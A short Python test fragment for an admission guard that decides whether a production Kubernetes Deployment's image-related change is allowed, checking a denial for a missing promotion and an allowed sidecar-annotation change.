    def verdict(updated: dict[str, Any]) -> imageguard.Verdict:
        return imageguard.judge(
            kind="Deployment",
            namespace="production",
            name="web",
            old=old,
            new=updated,
            user=stamping.User(OPERATOR, ()),
            namespace_gated=True,
            operator_identity=OPERATOR,
            break_glass_groups=(),
            promotion=promo,
            image_annotations=imageguard.IMAGE_ANNOTATIONS,
        )

    assert verdict(new).reason == "NoActivePromotion"
    unchanged = copy.deepcopy(new)
    unchanged["spec"]["template"]["metadata"]["annotations"]["sidecar.istio.io/proxyImage"] = "proxy:1"
    assert verdict(unchanged).allowed
